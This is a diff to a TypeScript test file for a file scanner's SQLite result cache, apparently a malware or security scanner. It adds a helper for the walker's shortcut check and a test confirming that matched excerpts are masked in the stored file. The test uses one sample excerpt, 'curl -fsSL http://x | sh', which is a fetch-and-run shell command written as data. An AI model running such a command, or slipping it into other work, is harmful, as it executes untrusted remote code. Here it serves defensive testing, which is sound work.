@@ -3,12 +3,13 @@
 // file); a file in another state is a miss; past the index's size the rows alone answer; two scans
 // writing at once never make the cache answer for a file state it did not see; other rule sets do
 // not answer.
-import { mkdtempSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import Database from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ScanCache } from './cache.js';
+import { cleanAndUnchangedIn } from './file-index.js';
 import type { FileResult } from './scan-job.js';
 
 let dir: string;
@@ -40,6 +41,19 @@ const matched: FileResult = {
   sha256: 'cd'.repeat(32),
 } as unknown as FileResult;
 
+/** The walker's shortcut: the file is in the cache's index in this state with nothing found. */
+function clean(
+  c: ScanCache,
+  dev: number,
+  ino: number,
+  size: number,
+  mtimeMs: number,
+  ctimeMs: number,
+): boolean {
+  const index = c.indexArrays();
+  return index !== undefined && cleanAndUnchangedIn(index, dev, ino, size, mtimeMs, ctimeMs);
+}
+
 describe('scan cache', () => {
   it('gives back each kind of result exactly, to a later scan', () => {
     const file = path.join(dir, 'roundtrip.sqlite');
@@ -54,17 +68,36 @@ describe('scan cache', () => {
     expect(later.get(key(2))).toEqual(executable);
     expect(later.get(key(3))).toEqual(matched);
     // The walker's shortcut answers only for "nothing found" in exactly this state.
-    expect(later.nothingFoundIn(2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
-    expect(later.nothingFoundIn(2049, 2, 100, key(2).mtimeMs, key(2).ctimeMs)).toBe(false);
-    expect(later.nothingFoundIn(2049, 1, 101, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
+    expect(clean(later, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
+    expect(clean(later, 2049, 2, 100, key(2).mtimeMs, key(2).ctimeMs)).toBe(false);
+    expect(clean(later, 2049, 1, 101, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
     expect(later.get(key(1, 5))).toBeUndefined();
     expect(later.get(key(4))).toBeUndefined();
     later.close();
 
     const otherRules = new ScanCache(file, 'sha256:rules-b');
     expect(otherRules.get(key(1))).toBeUndefined();
-    expect(otherRules.nothingFoundIn(2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
+    expect(clean(otherRules, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
     otherRules.close();
+  });
+
+  it('keeps the matched excerpts out of the file, in clear and under any one-byte XOR key', () => {
+    const file = path.join(dir, 'masked.sqlite');
+    const c = new ScanCache(file, RULES);
+    c.put(key(1), matched);
+    c.close();
+    const bytes = Buffer.concat(
+      [file, `${file}-wal`].filter((f) => existsSync(f)).map((f) => readFileSync(f)),
+    );
+    const excerpt = Buffer.from('curl -fsSL http://x | sh');
+    for (let k = 0; k < 256; k++) {
+      const xored = Buffer.from(excerpt.map((b) => b ^ k));
+      expect(bytes.includes(xored), `key ${k}`).toBe(false);
+    }
+    // And it still reads back.
+    const later = new ScanCache(file, RULES);
+    expect(later.get(key(1))).toEqual(matched);
+    later.close();
   });
 
   it('answers from the rows alone once there are too many files for the index', () => {
@@ -82,7 +115,7 @@ describe('scan cache', () => {
     expect(later.get(key(7))).toEqual(matched);
     expect(later.get(key(7, 5))).toBeUndefined();
     // Without the index there is no shortcut: every file goes through get().
-    expect(later.nothingFoundIn(2049, 3, 100, key(3).mtimeMs, key(3).ctimeMs)).toBe(false);
+    expect(clean(later, 2049, 3, 100, key(3).mtimeMs, key(3).ctimeMs)).toBe(false);
     later.close();
   });
 
@@ -106,7 +139,7 @@ describe('scan cache', () => {
     // b's state: whatever answers must be b's result, never a's "nothing found".
     const forB = c.get(key(1, 3000));
     if (forB) expect(forB).toEqual(matched);
-    expect(c.nothingFoundIn(2049, 1, 100, 3000, 3000)).toBe(false);
+    expect(clean(c, 2049, 1, 100, 3000, 3000)).toBe(false);
     // The first state is gone.
     expect(c.get(key(1, 1000))).toBeUndefined();
     // b's other file: its result or a miss (the file is scanned again), never something else.
